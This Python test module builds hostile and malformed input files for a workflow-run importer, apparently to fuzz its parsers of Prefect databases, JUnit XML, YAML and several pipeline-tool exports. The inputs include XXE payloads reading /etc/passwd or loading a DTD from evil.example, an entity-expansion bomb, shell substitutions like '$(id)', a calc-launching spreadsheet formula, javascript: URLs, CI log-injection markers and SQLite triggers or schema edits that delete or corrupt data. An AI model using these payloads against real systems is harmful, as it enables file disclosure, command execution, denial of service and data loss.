"""Small files made by hand that want to be more than a run, by name; no tool wrote any of them."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

Files = dict[str, bytes]

T0: Final = "2026-11-23T04:00:00Z"
T1: Final = "2026-11-23T04:01:00Z"

NUMBERS: Final = (
    *("NaN", "-Infinity", "1e999", "9" * 5000, "-1", "1e308", "true", "[]", "{}", "1e18"),
    *('"99999-01-01T00:00:00Z"', '"0000-00-00T00:00:00Z"', '"2026-02-30T25:61:61Z"'),
    *('"9999-12-31T23:59:59.999999-23:59"', '"0001-01-01T00:00:00+23:59"', "-62135596800001"),
)
IDS: Final = (
    *(".", "..", "/", "\\", "C:\\x", "\\\\server\\share", "~root", "--help", "CON", "con.txt"),
    *("LPT1", "aux.", "a" * 5000, "👩" * 400, "\0", "\n", " ", "\u202e", "a\u0300", "İ", "ß"),
    *("%2e%2e%2f", "..%00", "index", "report.html", "$(id)", "`id`", "${HOME}", "list", "latest"),
    *("\ud800", "__proto__", "constructor", "*", ".git", "\u2024\u2024/\u2215etc"),
)
_XML: Final = {
    "external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>{&x;}',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]>{a}',
    "laughs": "<!DOCTYPE a [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>{&a11;}",
    "one long entity": "<!DOCTYPE a [<!ENTITY a '" + "x" * 50_000 + "'>]>{" + "&a;" * 5000 + "}",
    "long attribute": "{" + "a" * 1_000_000 + "}",
    "forbidden characters": "{&#27;[2J&#0;&#xD800;}",
    "hidden characters": "{&#x202e;&#x9b;&#10;::error::x&#13;##[add-mask]e}",
    "instruction": '<?xml-stylesheet href="javascript:x"?>{a}',
    "odd numbers": '<testsuite tests="99999999999999999999" failures="NaN" errors="-1" '
    'time="1e999"><testcase name="a" time="nan"/><testcase name="b" time="-1e308"/></testsuite>',
    "section that ends": '<testsuite><testcase name="a"><failure><![CDATA[</script>]]]]>'
    "<![CDATA[>\n::error::x\n##[error]x]]></failure></testcase></testsuite>",
    "other names": '<x:testsuite xmlns:x="http://www.w3.org/1999/xhtml"><x:testcase name="a"/>'
    "</x:testsuite>",
    "deep": "<testsuite>" * 20_000 + "<testcase name='a'/>" + "</testsuite>" * 20_000,
    "many attributes": "<testsuite " + " ".join(f"a{n}='1'" for n in range(50_000)) + "/>",
}
_YAML: Final = {
    "aliases": "dag_id: d\nrun_id: r\na: &a [1]\nb: [*a, *a]\n",
    "own alias": "dag_id: &a [*a]\nrun_id: r\n",
    "merges": "a: &a {x: 1}\n" + "".join(f"b{n}: &b{n} {{<<: [*a, *a]}}\n" for n in range(30)),
    "binary": "dag_id: !!binary aGVsbG8=\nrun_id: r\n",
    "words": "dag_id: .inf\nrun_id: .nan\nstatus: yes\nsteps: [{step_id: 0x1F, status: no}]\n",
    "a key of keys": "? [a, b]\n: c\ndag_id: d\nrun_id: r\n",
    "a tag of its own": "%TAG ! tag:evil,2026:\n---\n!x dag_id: d\nrun_id: r\n",
    "escapes": 'dag_id: "\\u202e"\nrun_id: "\\N\\L\\P\\_"\n'
    'steps: [{step_id: "\\e[2J", error: "\\0"}]\n',
    "deep": "- " * 5000 + "a",
}
_SQL: Final = {
    "endless view": "ALTER TABLE flow_run RENAME TO f; CREATE VIEW flow_run AS SELECT * FROM f, "
    "(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c);",
    "trigger": "CREATE TRIGGER t AFTER INSERT ON flow_run BEGIN DELETE FROM flow_run; END;",
    "column of its own": "ALTER TABLE flow_run ADD COLUMN evil TEXT "
    "GENERATED ALWAYS AS (hex(zeroblob(900000000))) VIRTUAL;",
    "root of another": "PRAGMA writable_schema=ON; "
    "UPDATE sqlite_master SET rootpage = 1 WHERE name = 'task_run';",
    "schema that is none": "PRAGMA writable_schema=ON; "
    "UPDATE sqlite_master SET sql = 'CREATE TABLE flow_run (' WHERE name = 'flow_run';",
}


def run(**fields: Any) -> dict[str, Any]:
    """Return a run in the native shape."""
    step = {"step_id": "a", "name": "a", "status": "success", "start_time": T0, "end_time": T1}
    head = {"dag_id": "d", "run_id": "r", "status": "success", "start_time": T0, "end_time": T1}
    return {**head, "steps": {"a": step}, **fields}


def hostile_files(database: Path, folder: Path) -> Iterator[tuple[str, Files]]:
    """Yield them; `database` is one of Prefect's, and `folder` is for copies of it."""
    yield from _native()
    suite = '<testsuite name="s"><testcase name="{}" classname="c" time="1"/></testsuite>'
    for name, text in _XML.items():
        begin, brace, rest = text.partition("{")
        made = begin + suite.replace("{}", rest.removesuffix("}")) if brace else text
        yield f"xml: {name}", {"junit.xml": f'<?xml version="1.0"?>{made}'.encode()}
    for name, text in _YAML.items():
        yield f"yaml: {name}", {"run_x.yaml": text.encode()}
    whole = database.read_bytes()
    for name, script in _SQL.items():
        copy = folder / f"{name}.db"
        copy.write_bytes(whole)
        connection = sqlite3.connect(copy)
        connection.executescript(script)
        connection.close()
        yield f"sqlite: {name}", {"prefect.db": copy.read_bytes()}
    yield "sqlite: page size", {"prefect.db": whole[:16] + b"\xff\xff" + whole[18:]}
    yield "sqlite: half", {"prefect.db": whole[: len(whole) // 2]}
    yield "sqlite: free pages", {"prefect.db": whole[:32] + b"\x7f" * 8 + whole[40:]}
    yield from _of_tools()


def _native() -> Iterator[tuple[str, Files]]:
    whole = json.dumps(run())
    for number in NUMBERS:
        fields = f'"name": "a", "retry_count": {number}, "duration_seconds": {number}, "metrics": '
        fields += (
            f'{{"rows": {number}}}, "attempts": [{{"number": {number}, "end_time": {number}}}]'
        )
        text = whole.replace(f'"end_time": "{T1}"', f'"end_time": {number}')
        yield f"number: {number[:20]}", {"run_x.json": text.replace('"name": "a"', fields).encode()}
    for each in IDS:
        step: dict[str, Any] = {
            "step_id": each,
            "name": each,
            "status": "failed",
            "error": each,
            "group": each,
        }
        step |= {"upstream": [each], "worker": each, "location": {"file": each, "line": 1}}
        made = run(run_id=each, dag_id=each, status="failed", steps={each: step})
        yield f"id: {each[:20]!r}", {"run_x.json": json.dumps(made).encode()}
    data = whole.encode()
    for name, made_of in {
        "utf-16": whole.encode("utf-16"),
        "utf-32": whole.encode("utf-32"),
        "overlong": data.replace(b'"name": "a"', b'"name": "\xc0\xbcscript\xc0\xbe"'),
        "surrogates": data.replace(b'"name": "a"', b'"name": "\xed\xa0\x80\xed\xb0\x80"'),
        "nulls behind": data + b"\0" * 100,
        "two": data + data,
        "a comment": data + b"// x",
        "deep": b'{"metadata":' + b'{"a":' * 500 + b"1" + b"}" * 500 + b"," + data[1:],
    }.items():
        yield f"bytes: {name}", {"run_x.json": made_of}
    ring = {f"s{n}": {"status": "failed", "upstream": [f"s{(n + 1) % 500}"]} for n in range(500)}
    yield "a ring", {"run_x.json": json.dumps(run(status="failed", steps=ring)).encode()}
    tries = [{"number": n, "status": "failed", "error": "x"} for n in range(20_000)]
    many = {"a": {"status": "failed", "attempts": tries}}
    yield "attempts", {"run_x.json": json.dumps(run(status="failed", steps=many)).encode()}


def _of_tools() -> Iterator[tuple[str, Files]]:
    def lines(*values: Any) -> bytes:
        return "\n".join(map(json.dumps, values)).encode()

    nodes = {
        f"n{n}": {"id": f"n{n}", "name": "<b>", "type": "DAG", "phase": "Succeeded",
                  "children": [f"n{(n + 1) % 200}", f"n{n}"], "boundaryID": f"n{(n + 1) % 200}"}
        for n in range(200)
    }  # fmt: skip
    workflow = {"phase": "Succeeded", "startedAt": T0, "finishedAt": T1, "nodes": nodes}
    head = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Workflow"}
    meta = {"name": "w\n::error::x", "uid": "u"}
    yield "argo: a ring", {"w.json": lines({**head, "metadata": meta, "status": workflow})}
    pipeline = {
        "apiVersion": "tekton.dev/v1", "kind": "PipelineRun",
        "metadata": {"name": "p", "uid": "u", "ownerReferences": [{"uid": "u"}]},
        "status": {"conditions": [{"type": "Succeeded", "status": "True", "reason": "::error::"}],
                   "childReferences": [{"kind": "PipelineRun", "name": "p"}], "startTime": "now"},
    }  # fmt: skip
    yield "tekton: its own child", {"p.json": lines(pipeline)}
    spans = [
        {"traceId": "0" * 31 + "1", "spanId": f"{n:016x}", "parentSpanId": f"{n % 100 + 1:016x}",
         "name": "\x1b[2J", "startTimeUnixNano": str(10**30), "endTimeUnixNano": "-1"}
        for n in range(1, 101)
    ]  # fmt: skip
    trace = {"resourceSpans": [{"scopeSpans": [{"spans": spans}]}]}
    yield "otlp: a ring", {"t.jsonl": lines(trace)}
    events = [
        {"eventType": kind, "eventTime": T0,
         "run": {"runId": "01234567-89ab-7def-8123-0123456789ab"},
         "job": {"namespace": "::error::x", "name": "../../x"}, "producer": "javascript:alert(1)"}
        for kind in ["START", "FAIL", "COMPLETE", "START", "COMPLETE"] * 50
    ]  # fmt: skip
    yield "openlineage: two ends", {"e.ndjson": lines(*events)}
    states = [
        {"id": n, "previousEventId": n % 5 + 1, "type": "TaskStateEntered", "timestamp": 1e308,
         "stateEnteredEventDetails": {"name": "::error::x\x1b[2J"}}
        for n in range(1, 200)
    ]  # fmt: skip
    yield "stepfunctions: a ring", {"history.json": lines({"events": states})}
    jobs = [
        {"id": n, "name": "`" * n, "status": "success", "stage": "::error::x", "duration": "NaN",
         "needs": [{"name": "`"}], "pipeline": {"id": 1, "status": "failed"},
         "web_url": "javascript:alert(1)"}
        for n in range(1, 100)
    ]  # fmt: skip
    yield "gitlab: backticks", {"jobs.json": lines(jobs)}
    row = "{0}\tab/{0}\t1\tP (=cmd|' /C calc'!A0 \x1b[2J)\tCOMPLETED\t0\t{2}\t{1}ms\n"
    rows = "".join(row.format(n, "9" * 400, "2026-11-02 09:59:57.000") for n in range(100))
    titles = "task_id\thash\tnative_id\tname\tstatus\texit\tsubmit\tduration\n"
    yield "nextflow: formulas", {"trace.txt": (titles + rows).encode()}
